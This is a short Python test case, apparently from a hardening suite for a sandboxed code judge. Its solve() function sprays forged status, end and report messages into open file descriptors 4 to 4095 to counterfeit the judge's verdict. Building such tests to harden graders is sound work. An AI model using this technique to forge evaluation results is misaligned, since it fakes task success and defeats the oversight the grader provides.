# attack: zygote_report_forged
# kind: function
# attempts: writes the sign "the walls stand", an end and an order into every descriptor from 4 up
# sound verdict: incorrect|runtime_error
# host must: no descriptor of the zygote is open
# NEVER run outside a sandbox.
import os, struct
def solve(xs):
    for fd in range(4, 4096):
        for text in (b"+", b"E" + struct.pack("!B?iddQ", 0, True, 0, 0.0, 0.0, 0), b"J" + bytes(36)):
            try: os.write(fd, text)
            except OSError: pass
    return None
